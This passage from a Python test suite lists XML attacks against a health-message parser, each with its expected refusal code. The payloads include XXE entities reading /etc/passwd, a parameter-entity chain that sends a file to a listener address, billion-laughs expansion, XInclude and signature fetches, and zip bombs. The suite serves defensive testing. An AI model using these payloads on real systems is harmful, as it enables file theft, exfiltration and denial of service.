"""A corpus of attacks on whoever reads XML: what each does, and how it must end.

Each is built on a good message and told where a listener waits, which it may try to make the reader call. A verdict
is the kind of reading and the codes of its faults; most attacks on the parser end as "refusal T01" when the head
stands before them, for then its sender can be told.
"""

import base64
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from hub.message import Reading, Refusal, Unreadable
from tests.wire import builders
from tests.wire.builders import MSGHEAD, XHTML, attachment, dialogue, ident, note, organisation, patient

SAMPLES = Path(__file__).parent.parent / "samples"

XSI = "http://www.w3.org/2001/XMLSchema-instance"
XINCLUDE = "http://www.w3.org/2001/XInclude"
DSIG = "http://www.w3.org/2000/09/xmldsig#"
READ = "message"


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack: what it tries, how it ends, how it is made for a listener's address, and the text that survives."""

    name: str
    verdict: str
    build: Callable[[str], bytes]
    text: str | None = None


def verdict(reading: Reading) -> str:
    """How a reading ended, with its codes in order, each once."""
    kind = type(reading).__name__.lower()
    found = reading.faults if isinstance(reading, Refusal | Unreadable) else ()
    return " ".join((kind, *dict.fromkeys(fault.code for fault in found)))


def _plain(**overrides: str) -> str:
    """A good message without XML declaration."""
    return dialogue(declaration="", **overrides).decode()


def _told(text: str) -> bytes:
    """A message whose text is this XML."""
    return dialogue(body=note(text=text))


def _typed(subset: str, **overrides: str) -> bytes:
    """A message after a document type with this internal subset."""
    return f"<!DOCTYPE MsgHead [{subset}]>{_plain(**overrides)}".encode()


def _referring(entity: str, reference: str = "&a;") -> bytes:
    """A message whose text refers to an entity that its document type declares."""
    return _typed(entity, body=note(text=reference))


def _rooted(attributes: str) -> bytes:
    """A message whose root has these attributes too."""
    return _plain().replace("<MsgHead ", f"<MsgHead {attributes} ", 1).encode()


def _before(prolog: str) -> bytes:
    return f"{prolog}{_plain()}".encode()


def _declared(encoding: str, codec: str) -> bytes:
    return dialogue(declaration=f'<?xml version="1.0" encoding="{encoding}"?>').decode().encode(codec)


def _laughs(levels: int, times: int) -> str:
    rest = (f'<!ENTITY l{n} "{f"&l{n - 1};" * times}">' for n in range(1, levels + 1))
    return f'<!ENTITY l0 "ha">{"".join(rest)}'


def _nested(tag: str, depth: int, inner: str = "", attributes: str = "") -> str:
    return f"<{tag}{attributes}>" * depth + inner + f"</{tag}>" * depth


def _page(inner: str) -> bytes:
    """A message with XHTML."""
    return _told(f'<div xmlns="{XHTML}">{inner}</div>')


ENTITIES = (
    Attack("a billion laughs", "unreadable T01", lambda _: _referring(_laughs(9, 10), "&l9;")),
    Attack("laughs in an attribute", "unreadable T01", lambda _: _referring(_laughs(9, 10), "<p a='&l9;'/>")),
    Attack(
        "laughs of parameter entities",
        "unreadable T01",
        lambda _: _typed(
            "<!ENTITY % a \"<!ENTITY &#37; b 'ha'>\">%a;"
            + "".join(f'<!ENTITY % c{n} "%c{n - 1};%c{n - 1};">' for n in range(1, 40))
            + "%c39;"
        ),
    ),
    Attack(
        "one long entity many times",
        "unreadable T01",
        lambda _: _referring(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 50_000),
    ),
    Attack("an entity within itself", "unreadable T01", lambda _: _referring('<!ENTITY a "&b;"><!ENTITY b "&a;">')),
    Attack("an entity that hides text", "unreadable T01", lambda _: _referring('<!ENTITY a "text">')),
    Attack("an entity that hides markup", "unreadable T01", lambda _: _referring('<!ENTITY a "<p>text</p>">')),
    Attack("a file as an entity", "unreadable T01", lambda _: _referring('<!ENTITY a SYSTEM "file:///etc/passwd">')),
    Attack("a device as an entity", "unreadable T01", lambda _: _referring('<!ENTITY a SYSTEM "file:///dev/zero">')),
    Attack("an address as an entity", "unreadable T01", lambda to: _referring(f'<!ENTITY a SYSTEM "{to}">')),
    Attack("a public entity", "unreadable T01", lambda to: _referring(f'<!ENTITY a PUBLIC "-//A//B" "{to}">')),
    Attack("a parameter entity elsewhere", "unreadable T01", lambda to: _typed(f'<!ENTITY % a SYSTEM "{to}"> %a;')),
    Attack(
        "a parameter entity that would send a file",
        "unreadable T01",
        lambda to: _typed(
            f'<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % a SYSTEM "{to}"> %a; '
            f"<!ENTITY % b \"<!ENTITY &#37; c SYSTEM '{to}?%f;'>\"> %b; %c;"
        ),
    ),
    Attack(
        "an unparsed entity",
        "unreadable T01",
        lambda to: _typed(f'<!NOTATION n SYSTEM "{to}"><!ENTITY a SYSTEM "{to}" NDATA n>'),
    ),
    Attack("an entity that nobody declares", "refusal T01", lambda _: _told("a&nbsp;b")),
    Attack("a reference to no character", "refusal T01", lambda _: _told("&#0;")),
    Attack("a reference beyond all characters", "refusal T01", lambda _: _told("&#x110000;")),
    Attack("a reference with endless digits", "refusal T01", lambda _: _told(f"&#{'9' * 1_000_000};")),
    Attack("a reference with endless zeros", READ, lambda _: _told(f"&#{'0' * 1_000_000}65;"), "A"),
    Attack("many references", READ, lambda _: _told("&amp;" * 500_000), "&" * 500_000),
    Attack("an escaped entity", READ, lambda _: _told("&amp;lt;!ENTITY&gt;"), "&lt;!ENTITY>"),
)

DOCUMENT_TYPES = (
    Attack("a document type", "unreadable T01", lambda _: _before("<!DOCTYPE MsgHead>")),
    Attack("a document type elsewhere", "unreadable T01", lambda to: _before(f'<!DOCTYPE MsgHead SYSTEM "{to}">')),
    Attack("a public one", "unreadable T01", lambda to: _before(f'<!DOCTYPE MsgHead PUBLIC "-//A//B" "{to}">')),
    Attack("one in small letters", "unreadable T01", lambda _: _before("<!doctype html>")),
    Attack("one after a comment", "unreadable T01", lambda _: _before("<!-- a --> <!DOCTYPE a>")),
    Attack("one after an instruction", "unreadable T01", lambda _: _before("<?a b?>\n<!DOCTYPE a>")),
    Attack("one after a byte order mark", "unreadable T01", lambda _: b"\xef\xbb\xbf" + _before("<!DOCTYPE a>")),
    Attack("one after endless comments", "unreadable T01", lambda _: _before("<!---->" * 90_000 + "<!DOCTYPE a>")),
    Attack("one inside the message", "refusal T01", lambda _: _told("<!DOCTYPE a>")),
    Attack("one after the message", "refusal T01", lambda _: dialogue() + b"<!DOCTYPE a>"),
    Attack("one without an end", "unreadable T01", lambda _: b"<!DOCTYPE a [" + b"<!ENTITY a 'b'>" * 10_000),
    Attack("an attribute's default", "unreadable T01", lambda _: _typed('<!ATTLIST MsgHead a CDATA "b">')),
    Attack("one that is only told of", READ, lambda _: _told("<![CDATA[<!DOCTYPE a>]]>"), "<!DOCTYPE a>"),
)

_WIDE = "unreadable T01"
ENCODINGS = (
    Attack("UTF-16 with a mark", _WIDE, lambda _: _declared("UTF-16", "utf-16")),
    Attack("UTF-16 without one, little end first", _WIDE, lambda _: _declared("UTF-16LE", "utf-16-le")),
    Attack("UTF-16 without one, big end first", _WIDE, lambda _: _declared("UTF-16BE", "utf-16-be")),
    Attack("UTF-16 that declares UTF-8", _WIDE, lambda _: _declared("UTF-8", "utf-16")),
    Attack("UTF-16 without declaration", _WIDE, lambda _: _plain().encode("utf-16-le")),
    Attack("UTF-32 with a mark", _WIDE, lambda _: _declared("UTF-32", "utf-32")),
    Attack("UTF-32, little end first", _WIDE, lambda _: _declared("UTF-32LE", "utf-32-le")),
    Attack("UTF-32, big end first", _WIDE, lambda _: _declared("UTF-32BE", "utf-32-be")),
    Attack("UTF-7", _WIDE, lambda _: _declared("UTF-7", "utf-7")),
    Attack(
        "UTF-7 that hides a document type",
        _WIDE,
        lambda _: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a>' + _plain().encode(),
    ),
    Attack("EBCDIC", _WIDE, lambda _: _declared("cp037", "cp037")),
    Attack("Shift JIS", _WIDE, lambda _: _before('<?xml version="1.0" encoding="Shift_JIS"?>')),
    Attack("ISO 2022", _WIDE, lambda _: _before('<?xml version="1.0" encoding="ISO-2022-JP"?>')),
    Attack("GB 18030", _WIDE, lambda _: _before('<?xml version="1.0" encoding="GB18030"?>')),
    Attack("Windows 1252", _WIDE, lambda _: _before('<?xml version="1.0" encoding="windows-1252"?>')),
    Attack("an encoding that nobody has", _WIDE, lambda _: _before('<?xml version="1.0" encoding="x"?>')),
    Attack("an endless encoding", _WIDE, lambda _: _before(f'<?xml version="1.0" encoding="{"x" * 1_000_000}"?>')),
    Attack("an encoding with a path", _WIDE, lambda _: _before('<?xml version="1.0" encoding="../../etc/passwd"?>')),
    Attack("two declarations", _WIDE, lambda _: _before('<?xml version="1.0"?><?xml version="1.0" encoding="UTF-7"?>')),
    Attack("two byte order marks", _WIDE, lambda _: b"\xef\xbb\xbf" * 2 + dialogue()),
    Attack("Latin letters as UTF-8", "refusal T01", lambda _: _told("på").decode().encode("latin-1")),
    Attack("a < in two bytes", "refusal T01", lambda _: _told("@").replace(b"@", b"\xc0\xbcscript>")),
    Attack("half a character", "refusal T01", lambda _: _told("@").replace(b"@", b"\xed\xa0\x80")),
    Attack("a character beyond all", "refusal T01", lambda _: _told("@").replace(b"@", b"\xf5\x80\x80\x80")),
    Attack("a zero byte", _WIDE, lambda _: _told("@").replace(b"@", b"\0")),
    Attack("a character that XML lacks", "refusal T01", lambda _: _told("@").replace(b"@", b"\x08")),
    Attack("a later version of XML", READ, lambda _: _before('<?xml version="1.1"?>'), "Hei"),
)

DEEP = (
    Attack("depth", "refusal T01", lambda _: _told(_nested("div", 300))),
    Attack(
        "depth in a large message",
        "refusal T01",
        lambda _: _told(_nested("div", 10_000, "x" * 9_000_000)),
    ),
    Attack("depth before the head", "unreadable T01", lambda _: _nested("a", 190_000).encode()),
    Attack("depth that never ends", "refusal T01", lambda _: _told("<div>" * 30_000)),
    Attack("endless depth that never ends", "unreadable T01", lambda _: _told("<div>" * 190_000)),
    Attack(
        "organisations within each other",
        "refusal T02",
        lambda _: dialogue(receiver=f"<Receiver>{_nested('Organisation', 200)}</Receiver>"),
    ),
    Attack(
        "messages within each other",
        "refusal T02",
        lambda _: _told(_nested("MsgHead", 200, "a", f' xmlns="{MSGHEAD}"')),
    ),
    Attack(
        "lists within each other", READ, lambda _: _page(_nested("ul><li", 100, "a").replace("</ul><li>", "</li></ul>"))
    ),
    Attack(
        "long lists deep inside",
        READ,
        lambda _: _page("<ul><li>" * 110 + "</li><li>a" * 19_000 + "</li></ul>" * 110),
    ),
    Attack("quotations within each other", READ, lambda _: _page(_nested("blockquote", 240, "a")), "a"),
    Attack("raised text within itself", READ, lambda _: _page("a" + _nested("sup", 240, "2"))),
)

_ENTRY = "<Ident><Id/><TypeId/></Ident>"
_CROWD = "unreadable T01"
WIDE = (
    Attack("a million siblings", _CROWD, lambda _: _told("<p/>" * 1_000_000)),
    Attack("siblings without end", _CROWD, lambda _: dialogue(patient=patient(idents=_ENTRY * 60_000))),
    Attack("as many siblings as can be", "refusal E36", lambda _: dialogue(patient=patient(idents=_ENTRY * 1_900))),
    Attack(
        "as many faults as can be",
        "refusal T02 E36",
        lambda _: dialogue(patient=patient(idents=_ENTRY.replace("/><", " S='x'/><") * 1_900)),
    ),
    Attack("many strangers in a text", READ, lambda _: _told("<x xmlns='urn:a'/>" * 1_900), ""),
    Attack("many faults in one", "refusal T02", lambda _: _rooted(" ".join(f'a{n}=""' for n in range(1_900)))),
    Attack("many faults far down", "refusal T02 E36", lambda _: dialogue(patient=patient(idents="<Ident/>" * 1_900))),
    Attack("foreign elements without end", "refusal T01", lambda _: _told("<x xmlns='urn:a'/>" * 39_000)),
    Attack("much XHTML", READ, lambda _: _page("<p>a</p>" * 19_000), "\n\n".join("a" * 19_000)),
    Attack("too much XHTML", _CROWD, lambda _: _page("<p>a</p>" * 60_000)),
    Attack("much XHTML in a line", READ, lambda _: _page("a<b/>" * 39_000), "a" * 39_000),
    Attack(
        "notes without end", _CROWD, lambda _: dialogue(body='<Notat><TemaKodet V="6"/><Tema>a</Tema></Notat>' * 50_000)
    ),
    Attack("many notes", READ, lambda _: dialogue(body=note() * 1_500)),
    Attack("many receivers", "message", lambda _: dialogue(others=builders.copy(builders.CENTRE) * 600)),
    Attack(
        "many documents",
        "refusal T10",
        lambda _: dialogue(
            attachments='<Document><RefDoc><MsgType/><Content><a xmlns="urn:a"/></Content></RefDoc></Document>' * 1_900
        ),
    ),
    Attack("many payloads", READ, lambda _: dialogue(attachments=_BODY * 1_400)),
)
_BODY = (
    '<Document><RefDoc><MsgType V="XML"/><Content><Dialogmelding xmlns="http://www.kith.no/xmlstds/dialog/2013-01-23"/>'
    "</Content></RefDoc></Document>"
)

_NAMES = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(60))
ATTRIBUTES = (
    Attack(
        "a hundred thousand attributes",
        _CROWD,
        lambda _: _told("<p " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>"),
    ),
    Attack(
        "a million attributes", _CROWD, lambda _: _told("<p " + " ".join(f'a{n}=""' for n in range(1_000_000)) + "/>")
    ),
    Attack(
        "as many attributes as can be",
        READ,
        lambda _: _told(("<p " + " ".join(f'a{n}=""' for n in range(60)) + "/>") * 1_600),
    ),
    Attack("the same attribute twice", "refusal T01", lambda _: _told("<p a='' a=''/>")),
    Attack(
        "the same attribute by two names",
        "refusal T01",
        lambda _: _told("<p xmlns:a='urn:a' xmlns:b='urn:a' a:c='' b:c=''/>"),
    ),
    Attack("a huge attribute", _CROWD, lambda _: _told(f'<p a="{"x" * 5_000_000}"/>')),
    Attack(
        "a huge attribute of the head",
        _CROWD,
        lambda _: dialogue(kind="DIALOG_NOTAT").replace(b'DN="Notat"', b'DN="' + b"x" * 1_000_000 + b'"'),
    ),
    Attack("a huge name", "refusal T01", lambda _: _told(f"<{'a' * 5_000_000}/>")),
    Attack("a huge name of an attribute", "refusal T01", lambda _: _told(f"<p {'a' * 5_000_000}=''/>")),
    Attack("a long name", READ, lambda _: _told(f"<{'a' * 49_000}/>")),
    Attack("a huge namespace", _CROWD, lambda _: _told(f'<p xmlns="urn:{"x" * 1_000_000}"/>')),
    Attack(
        "namespaces without end",
        "refusal T01",
        lambda _: _told("".join(f'<a{n}:p xmlns:a{n}="urn:{n}"/>' for n in range(19_000))),
    ),
    Attack(
        "more namespaces on an element than can be",
        _CROWD,
        lambda _: _rooted(_NAMES + _NAMES.replace("xmlns:n", "xmlns:m")),
    ),
    Attack("namespaces on every level", READ, lambda _: _told(_nested("p", 200, "<n1:p/>" * 1_900, f" {_NAMES}"))),
    Attack(
        "receivers below many namespaces",
        "refusal T02",
        lambda _: (
            dialogue(others=f"<OtherReceiver {_NAMES}><Organisation/></OtherReceiver>" * 600)
            .decode()
            .replace("<MsgHead ", f"<MsgHead {_NAMES.replace('xmlns:n', 'xmlns:m')} ")
            .encode()
        ),
    ),
    Attack(
        "receivers below endless namespaces",
        _CROWD,
        lambda _: dialogue(others="<OtherReceiver><Organisation/></OtherReceiver>" * 3_000).replace(
            b"<MsgHead ", b"<MsgHead " + b" ".join(b'xmlns:n%d="urn:%d"' % (n, n) for n in range(1_800)) + b" "
        ),
    ),
    Attack("the namespace of namespaces", "refusal T01", lambda _: _told('<xmlns:p xmlns:xmlns="urn:a"/>')),
    Attack("no namespace for a prefix", "refusal T01", lambda _: _told("<q:p/>")),
    Attack(
        "our own namespace by another name",
        READ,
        lambda _: _plain().replace("<", "<m:").replace("<m:/", "</m:").replace("xmlns=", "xmlns:m=").encode(),
        None,
    ),
)

TEXTS = (
    Attack("a comment in a text", READ, lambda _: _told("Ikke <!-- gi -->penicillin"), "Ikke penicillin"),
    Attack("comments everywhere in a text", READ, lambda _: _told("a<!---->" * 19_000), "a" * 19_000),
    Attack("an instruction in a text", READ, lambda _: _told("Ikke <?gi?>penicillin"), "Ikke penicillin"),
    Attack(
        "a CDATA section in a text", READ, lambda _: _told("Ikke <![CDATA[<gi>]]> penicillin"), "Ikke <gi> penicillin"
    ),
    Attack("CDATA sections everywhere in a text", READ, lambda _: _told("<![CDATA[a]]>b" * 19_000), "ab" * 19_000),
    Attack("the end of a section in two", READ, lambda _: _told("<![CDATA[]]]]><![CDATA[>]]>"), "]]>"),
    Attack("a comment between elements of a text", READ, lambda _: _page("<p>a<!-- b --></p>c<!-- d -->e"), "a\n\nce"),
    Attack("a comment that never ends", "refusal T01", lambda _: _told("<!-- a")),
    Attack("a huge comment", READ, lambda _: _told(f"<!--{'- ' * 2_500_000}-->a"), "a"),
    Attack("openings in a comment", READ, lambda _: _told(f"<!--{'<a b=' * 30_000}-->a"), "a"),
    Attack("a huge instruction", READ, lambda _: _told(f"<?a {'? ' * 2_500_000}?>a"), "a"),
    Attack("declarations before the root", _CROWD, lambda _: _before("<?a?><!---->" * 90_000)),
    Attack("endless declarations before the root", _CROWD, lambda _: _before("<?a?>" * 2_000_000)),
    Attack("many declarations before the root", READ, lambda _: _before("<?a?><!---->" * 19_000), "Hei"),
    Attack("a huge text", READ, lambda _: _told("a b\n" * 1_000_000)),
    Attack("a huge text of marks", READ, lambda _: _page("<p> \n</p>" * 19_000), ""),
    Attack("a text of equals signs", READ, lambda _: _told(f"<![CDATA[{'=' * 5_000_000}]]>"), "=" * 5_000_000),
    Attack("a text of quotes", _CROWD, lambda _: _told("'\"" * 4_000_000)),
    Attack("a text of blanks", READ, lambda _: _told("\n \t" * 2_000_000), ""),
    Attack("a script in a text", READ, lambda _: _page("a<script>alert(1)</script>"), "a\nalert(1)"),
    Attack("a style in a text", READ, lambda to: _page(f"<style>@import '{to}';</style>a")),
    Attack("a table of many cells", READ, lambda _: _page(f"<table><tr>{'<td>a</td>' * 19_000}</tr></table>")),
    Attack("many lists", READ, lambda _: _page("<ul><li>a</li></ul>" * 9_500)),
    Attack("a text that turns around", READ, lambda _: _told("a\u202eb"), "a\u202eb"),
)

FETCHING = (
    Attack(
        "a schema's place",
        READ,
        lambda to: _rooted(f'xmlns:xsi="{XSI}" xsi:schemaLocation="{MSGHEAD} {to} urn:a {to}"'),
        "Hei",
    ),
    Attack(
        "a schema's place without namespace",
        READ,
        lambda to: _rooted(f'xmlns:xsi="{XSI}" xsi:noNamespaceSchemaLocation="{to}"'),
        "Hei",
    ),
    Attack(
        "a schema's place in a payload",
        "refusal T10",
        lambda to: dialogue(payload=f'<a xmlns="urn:a" xmlns:xsi="{XSI}" xsi:schemaLocation="urn:a {to}"/>'),
    ),
    Attack(
        "a schema's place in a text",
        READ,
        lambda to: _told(f'<a xmlns="urn:a" xmlns:xsi="{XSI}" xsi:schemaLocation="urn:a {to}"/>'),
    ),
    Attack(
        "another type for an element",
        "refusal T02",
        lambda _: (
            _plain()
            .replace(
                "<MsgId>", f'<MsgId xmlns:xsi="{XSI}" xmlns:xs="http://www.w3.org/2001/XMLSchema" xsi:type="xs:QName">'
            )
            .encode()
        ),
    ),
    Attack(
        "nothing for an element",
        "refusal T02",
        lambda _: _plain().replace("<MsgId>", f'<MsgId xmlns:xsi="{XSI}" xsi:nil="true">').encode(),
    ),
    Attack("an inclusion", READ, lambda to: _told(f'<i:include xmlns:i="{XINCLUDE}" href="{to}"/>')),
    Attack(
        "an inclusion of a file",
        READ,
        lambda _: _told(f'<i:include xmlns:i="{XINCLUDE}" href="/etc/passwd" parse="text"/>'),
    ),
    Attack(
        "an inclusion of the message itself",
        READ,
        lambda _: _told(f'<i:include xmlns:i="{XINCLUDE}" href="" xpointer="xpointer(/)"/>'),
    ),
    Attack("a style sheet", READ, lambda to: _before(f'<?xml-stylesheet href="{to}" type="text/xsl"?>'), "Hei"),
    Attack("a model", READ, lambda to: _before(f'<?xml-model href="{to}"?>'), "Hei"),
    Attack("a base", "refusal T02", lambda to: _rooted(f'xml:base="{to}"')),
    Attack(
        "a link of XML",
        "refusal T02",
        lambda to: _rooted(f'xmlns:x="http://www.w3.org/1999/xlink" x:type="simple" x:actuate="onLoad" x:href="{to}"'),
    ),
    Attack(
        "pictures and links",
        READ,
        lambda to: _page(f'<img src="{to}"/><a href="{to}">b</a><iframe src="{to}"/><object data="{to}"/>'),
    ),
    Attack("text that is struck out within itself", READ, lambda _: _page(_nested("s", 240, "a")), "[strøket: a]"),
    Attack("much that is struck out", READ, lambda _: _page("<s>a</s>" * 9_500), "[strøket: a]" * 9_500),
    Attack(
        "a list that begins beyond all numbers", READ, lambda _: _page(f'<ol start="{"9" * 60_000}"><li>a</li></ol>')
    ),
    Attack(
        "a file elsewhere",
        "refusal T99",
        lambda to: dialogue(attachments=attachment(content=f"<FileReference>{to}</FileReference>")),
    ),
    Attack(
        "a file of ours",
        "refusal T99",
        lambda _: dialogue(attachments=attachment(content="<FileReference>file:///etc/passwd</FileReference>")),
    ),
)

_OTHER = _plain().replace(builders.MSG_ID, "11111111-1111-1111-1111-111111111111")
_SIGNED = (
    '<SignedInfo><CanonicalizationMethod Algorithm="a:b"/><SignatureMethod Algorithm="a:b"/>'
    '<Reference URI="#a"><DigestMethod Algorithm="a:b"/><DigestValue>AAAA</DigestValue></Reference></SignedInfo>'
    "<SignatureValue>AAAA</SignatureValue>"
)

_XSLT = "http://www.w3.org/1999/XSL/Transform"
_TRANSFORM = (
    '<Transforms><Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">'
    f'<x:stylesheet xmlns:x="{_XSLT}"><x:include href="@"/></x:stylesheet></Transform></Transforms>'
)


def _signed(inner: str = "", before: str = "", digests: int = 1) -> bytes:
    """A message with a signature at its end, and whatever goes along inside or before it."""
    reference = _SIGNED[_SIGNED.index("<Reference") : _SIGNED.index("</SignedInfo>")]
    told = _SIGNED.replace(reference, reference * digests)
    return dialogue(attachments=f'{before}<Signature xmlns="{DSIG}">{told}{inner}</Signature>')


WRAPPING = (
    Attack("another message in the text", READ, lambda _: _told(_OTHER)),
    Attack("another message in a signature's object", "refusal S01", lambda _: _signed(f"<Object>{_OTHER}</Object>")),
    Attack(
        "a signature around the message",
        "unreadable T10",
        lambda _: f'<Signature xmlns="{DSIG}">{_SIGNED}<Object Id="a">{_OTHER}</Object></Signature>'.encode(),
    ),
    Attack(
        "a message around the message",
        "unreadable T02",
        lambda _: f'<MsgHead xmlns="{MSGHEAD}">{_OTHER}</MsgHead>'.encode(),
    ),
    Attack(
        "a second head",
        "refusal T02",
        lambda _: (
            _plain()
            .replace(
                "<Document>",
                f"<MsgInfo><Sender>{organisation('Andre', ident('900999'))}</Sender></MsgInfo><Document>",
                1,
            )
            .encode()
        ),
    ),
    Attack(
        "a signature before the payload",
        "refusal S01 T02",
        lambda _: (
            _plain().replace("<Document>", f'<Signature xmlns="{DSIG}">{_SIGNED}</Signature><Document>', 1).encode()
        ),
    ),
    Attack(
        "two signatures",
        "refusal S01 T02",
        lambda _: _signed(before=f'<Signature xmlns="{DSIG}">{_SIGNED}</Signature>'),
    ),
    Attack("a signature of a thousand references", "refusal S01", lambda _: _signed(digests=1_000)),
    Attack(
        "a signature that fetches", "refusal S01", lambda to: _signed().replace(b'URI="#a"', f'URI="{to}"'.encode())
    ),
    Attack(
        "a signature that transforms",
        "refusal S01",
        lambda to: _signed().replace(b"<DigestMethod", f"{_TRANSFORM.replace('@', to)}<DigestMethod".encode()),
    ),
    Attack("a key elsewhere", "refusal S01", lambda to: _signed(f'<KeyInfo><RetrievalMethod URI="{to}"/></KeyInfo>')),
)


def _numbered(system: str) -> bytes:
    """A message whose patient's number is of a list with this number."""
    number = f'<Ident><Id>{builders.HANNE}</Id><TypeId V="FNR" S="{system}"/></Ident>'
    return dialogue(patient=patient(idents=number))


PATTERNS = (
    Attack("a hostile number of a code list", "refusal T02", lambda _: dialogue(body=note(system="1." * 40 + "!"))),
    Attack("a longer one", "refusal T02", lambda _: dialogue(body=note(system="1" * 60_000 + "!"))),
    Attack("a long one that is right", READ, lambda _: dialogue(body=note(system="1." * 30_000 + "1"))),
    Attack("many long ones", "refusal T01", lambda _: dialogue(body=note(system="1." * 30_000 + "!") * 90)),
    Attack(
        "many long ones that are right", "refusal T01", lambda _: dialogue(body=note(system="1." * 30_000 + "1") * 90)
    ),
    Attack("many that are not too long", "refusal T02", lambda _: dialogue(body=note(system="1." * 110 + "!") * 1_900)),
    Attack(
        "references without end",
        "refusal T01",
        lambda _: dialogue(
            attachments=f"<Document><OidRef>{'1.' * 30_000}!</OidRef><RefDoc><MsgType V='REF'/></RefDoc></Document>"
            * 90
        ),
    ),
    Attack("an endless one", _CROWD, lambda _: _numbered("1." * 4_000_000 + "!")),
    Attack("an endless one that is right", _CROWD, lambda _: _numbered("1." * 4_000_000 + "1")),
    Attack("an endless one in other quotes", _CROWD, lambda _: _numbered("1." * 4_000_000 + "1").replace(b'"', b"'")),
    Attack("a hostile time", "refusal T02", lambda _: dialogue(gen_date="2026-11-21T10:32:12." + "1" * 100_000)),
    Attack("an endless time", "refusal T01", lambda _: dialogue(gen_date="2026-11-21T10:32:12." + "1" * 8_000_000)),
    Attack(
        "a birth date before endless blanks",
        "refusal T01",
        lambda _: dialogue(patient=patient(born="2000-01-01" + " " * 8_000_000)),
    ),
    Attack("an endless name", "refusal T01", lambda _: dialogue(patient=patient(family="x" * 8_000_000))),
    Attack("a hostile zone", "refusal T02", lambda _: dialogue(gen_date="2026-11-21T10:32:12+99:99")),
    Attack("a year beyond all", "refusal T02", lambda _: dialogue(gen_date=f"{'9' * 100_000}-01-01T00:00:00Z")),
    Attack("a year before all", "refusal T02", lambda _: dialogue(gen_date="-0001-01-01T00:00:00Z")),
    Attack("the end of time", "refusal T02", lambda _: dialogue(gen_date="9999-12-31T24:00:00-14:00")),
    Attack("the beginning of time", "refusal T02", lambda _: dialogue(gen_date="0001-01-01T00:00:00+14:00")),
    Attack("a hostile birth date", "refusal T01", lambda _: dialogue(patient=patient(born="9" * 1_000_000))),
    Attack(
        "a hostile number of a patient",
        "refusal T01",
        lambda _: dialogue(patient=patient(idents=ident(builders.HANNE, "FNR") + ident("9" * 1_000_000, "FNR"))),
    ),
    Attack(
        "a number of a patient in other digits",
        "refusal E36",
        lambda _: dialogue(patient=patient(idents=ident("٠" * 11, "FNR"))),
    ),
    Attack("an endless id", "unreadable T01", lambda _: dialogue(msg_id="a" * 1_000_000)),
    Attack(
        "an endless number of the sender",
        "unreadable T01",
        lambda _: dialogue(sender=organisation("A", ident("9" * 1_000_000))),
    ),
    Attack(
        "an endless number of a receiver",
        "refusal T01",
        lambda _: dialogue(receiver=f"<Receiver>{organisation('A', ident('9' * 1_000_000))}</Receiver>"),
    ),
    Attack("an endless version", "refusal T01", lambda _: dialogue(mig="v" * 1_000_000)),
    Attack("an endless role", _CROWD, lambda _: dialogue(others=builders.copy(builders.GP, "X" * 1_000_000))),
    Attack("an endless profession", _CROWD, lambda _: dialogue(body=note(rest=builders.wanted("24", "9" * 1_000_000)))),
)

_COPY = "<CopyDest><HCP><Inst><Name>A</Name><Id>900200</Id><TypeId V='HER'/></Inst></HCP></CopyDest>"


def _summary(old: str, new: str) -> bytes:
    """A discharge summary in its own envelope, with something in it replaced."""
    written = (SAMPLES / "epikrise-1.2-utskrivning.xml").read_text(encoding="utf-8")
    assert old in written, old
    return written.replace(old, new, 1).encode()


SUMMARIES = (
    Attack(
        "a document type of a summary",
        "unreadable T01",
        lambda to: _summary("<Message ", f'<!DOCTYPE a SYSTEM "{to}"><Message '),
    ),
    Attack("an entity in a summary", "unreadable T01", lambda _: _summary("<ServRprt>", "<ServRprt>&a;")),
    Attack(
        "copies of a summary below many namespaces",
        READ,
        lambda _: _summary("<Message ", f"<Message {_NAMES} ").replace(
            b"<CopyDest>", (_COPY * 900 + "<CopyDest>").encode(), 1
        ),
    ),
    Attack(
        "copies of a summary without end",
        "unreadable T01",
        lambda _: _summary("<CopyDest>", _COPY * 2_500 + "<CopyDest>"),
    ),
    Attack(
        "depth in a summary",
        "unreadable T01",
        lambda _: _summary("<CopyDest>", _nested("CopyDest", 300) + "<CopyDest>"),
    ),
    Attack(
        "a schema's place in a summary",
        READ,
        lambda to: _summary("<Message ", f'<Message xmlns:xsi="{XSI}" xsi:schemaLocation="urn:a {to}" '),
    ),
    Attack(
        "a summary within a summary",
        "refusal T02",
        lambda _: _summary("<ServRprt>", f"<ServRprt>{_summary('<?xml', '<?xml').decode().partition('?>')[2]}"),
    ),
)


def _file(data: bytes, times: int = 1) -> bytes:
    return dialogue(attachments=attachment(data=base64.b64encode(data).decode()) * times)


ATTACHMENTS = (
    Attack("base64 within base64", "refusal T99", lambda _: _file(base64.b64encode(base64.b64encode(b"%PDF-1.4")))),
    Attack("a message within base64", "refusal T99", lambda _: _file(_OTHER.encode())),
    Attack("a zip bomb", "refusal T99", lambda _: _file(b"PK\x03\x04" + bytes(1_000_000))),
    Attack("a gzip bomb", "refusal T99", lambda _: _file(b"\x1f\x8b\x08" + bytes(1_000_000))),
    Attack(
        "a bomb that says it is compressed",
        "refusal T99",
        lambda _: dialogue(attachments=attachment(rest='<Compression V="GZ"/>')),
    ),
    Attack(
        "a picture of endless size",
        READ,
        lambda _: _file(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\x7f\xff\xff\xff" * 2 + b"\x08\0\0\0\0"),
    ),
    Attack("a page that is called PDF", "refusal T99", lambda _: _file(b"<html><script>alert(1)</script>%PDF-1.4")),
    Attack("a program that is called PDF", "refusal T99", lambda _: _file(b"MZ" + bytes(100) + b"%PDF-1.4")),
    Attack("many files", READ, lambda _: _file(b"%PDF-1.4\n", 1_200)),
    Attack("many files that are none", "refusal T99", lambda _: _file(b"PK\x03\x04", 1_200)),
    Attack("a file of blanks", "refusal T99", lambda _: dialogue(attachments=attachment(data=" \n" * 2_000_000))),
    Attack(
        "a file in lines of one",
        READ,
        lambda _: dialogue(attachments=attachment(data=builders.PDF + "\n".join("A" * 1_000_000))),
    ),
    Attack("a file of padding", "refusal T02", lambda _: dialogue(attachments=attachment(data="=" * 4_000_000))),
    Attack(
        "a file with something else at its end",
        "refusal T02",
        lambda _: dialogue(attachments=attachment(data=builders.PDF + "A" * 4_000_000 + "!")),
